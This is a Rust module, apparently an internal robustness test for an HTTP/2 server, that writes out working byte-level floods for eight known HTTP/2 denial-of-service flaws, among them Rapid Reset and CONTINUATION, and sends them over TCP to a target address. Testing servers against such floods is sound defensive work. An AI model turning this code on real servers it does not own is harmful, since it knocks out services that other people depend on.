//! Eight kinds of HTTP/2 flood, as bytes. Never reads what the server answers, as those who flood do not.

use std::io::{self, Write as _};
use std::net::{SocketAddr, TcpStream};
use std::time::{Duration, Instant};

use anyhow::Result;

const PREFACE: &[u8] = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n";
/// A head in HPACK: GET, http, path /, authority by literal.
const HEAD: &[u8] = &[0x82, 0x86, 0x84, 0x41, 0x01, b'h'];
/// POST instead of GET.
const POST: &[u8] = &[0x83, 0x86, 0x84, 0x41, 0x01, b'h'];
/// Longest wait for the server to take more.
const STALL: Duration = Duration::from_secs(6);
/// How long a flood lasts: others are to feel it.
const LASTS: Duration = Duration::from_secs(2);
/// Frames in one write.
const BATCH: usize = 100;

/// A kind of flood.
#[derive(Clone, Copy, Debug, PartialEq, Eq)]
pub(crate) enum Flood {
    /// Requests that are cancelled at once (CVE-2023-44487).
    RapidReset,
    /// A head that never ends (CVE-2024-27316).
    Continuation,
    /// A body of nothing (CVE-2019-9518).
    EmptyData,
    /// CVE-2019-9512.
    Ping,
    /// CVE-2019-9515.
    Settings,
    /// Credit, byte by byte.
    WindowUpdate,
    /// CVE-2019-9513.
    Priority,
    /// Requests that the server has to reset (CVE-2019-9514, CVE-2025-8671).
    MadeReset,
}

impl Flood {
    pub(crate) const ALL: [Self; 8] = [
        Self::RapidReset,
        Self::Continuation,
        Self::EmptyData,
        Self::Ping,
        Self::Settings,
        Self::WindowUpdate,
        Self::Priority,
        Self::MadeReset,
    ];

    /// What comes before the flood.
    fn opening(self) -> Vec<u8> {
        let begun = match self {
            Self::Continuation => frame(1, 0, 1, HEAD),
            Self::EmptyData => frame(1, 4, 1, POST),
            _ => Vec::new(),
        };
        [PREFACE, &frame(4, 0, 0, &[]), &begun].concat()
    }

    /// The `number`th piece of it, of one or two frames.
    fn piece(self, number: u32) -> Vec<u8> {
        let stream = 1 + 2 * number;
        match self {
            Self::RapidReset => [frame(1, 5, stream, HEAD), frame(3, 0, stream, &[0, 0, 0, 8])].concat(),
            Self::Continuation => frame(9, 0, 1, &[0x40, 1, b'a', 1, b'b']),
            Self::EmptyData => frame(0, 0, 1, &[]),
            Self::Ping => frame(6, 0, 0, &u64::from(number).to_be_bytes()),
            Self::Settings => frame(4, 0, 0, &[0, 4, 0, 0, 0xff, 0xff]),
            Self::WindowUpdate => frame(8, 0, 0, &[0, 0, 0, 1]),
            Self::Priority => frame(2, 0, stream, &[0, 0, 0, 0, 16]),
            // A window that grows by nothing is an error of that stream: the server resets it.
            Self::MadeReset => [frame(1, 4, stream, POST), frame(8, 0, stream, &[0, 0, 0, 0])].concat(),
        }
    }

    fn frames(self) -> u32 {
        if matches!(self, Self::RapidReset | Self::MadeReset) { 2 } else { 1 }
    }
}

fn frame(kind: u8, flags: u8, stream: u32, payload: &[u8]) -> Vec<u8> {
    let length = u32::try_from(payload.len()).unwrap_or(0).to_be_bytes();
    let mut bytes = vec![length[1], length[2], length[3], kind, flags];
    bytes.extend(stream.to_be_bytes());
    bytes.extend(payload);
    bytes
}

/// What became of a flood.
#[derive(Debug, Default)]
pub(crate) struct Sent {
    pub(crate) frames: u32,
    /// Connections that the server closed, or did not read from any more.
    pub(crate) connections: u32,
}

/// Sends `frames` frames, evenly over [`LASTS`], over as many connections as the server closes meanwhile.
pub(crate) fn send(to: SocketAddr, flood: Flood, frames: u32) -> Result<Sent> {
    let mut sent = Sent::default();
    let (pace, until) = (Pace { began: Instant::now(), frames }, Instant::now() + Duration::from_secs(120));
    while sent.frames < frames && Instant::now() < until {
        sent.connections += 1;
        let stream = TcpStream::connect(to)?;
        stream.set_write_timeout(Some(STALL))?;
        sent.frames += over(&stream, flood, &pace, sent.frames).unwrap_or_else(|(sent, _)| sent);
    }
    anyhow::ensure!(sent.frames >= frames, "{flood:?}: only {sent:?} in time");
    Ok(sent)
}

/// So many frames in all, at an even pace.
struct Pace {
    began: Instant,
    frames: u32,
}

impl Pace {
    /// Waits until it is the turn of the frame after so many.
    fn keep(&self, sent: u32) {
        let due = LASTS.mul_f64((f64::from(sent) / f64::from(self.frames)).min(1.0));
        // tidy: sleep because the flood is paced.
        std::thread::sleep(due.saturating_sub(self.began.elapsed()));
    }
}

/// Sends over one connection; how many frames were taken where it ended early.
fn over(mut stream: &TcpStream, flood: Flood, pace: &Pace, before: u32) -> Result<u32, (u32, io::Error)> {
    stream.write_all(&flood.opening()).map_err(|error| (1, error))?;
    let (mut sent, mut number) = (0, 1);
    while before + sent < pace.frames {
        let mut batch = Vec::new();
        for _ in 0..BATCH {
            batch.extend(flood.piece(number));
            number += 1;
        }
        stream.write_all(&batch).map_err(|error| (sent.max(1), error))?;
        sent += flood.frames() * u32::try_from(BATCH).unwrap_or(0);
        pace.keep(before + sent);
    }
    Ok(sent)
}
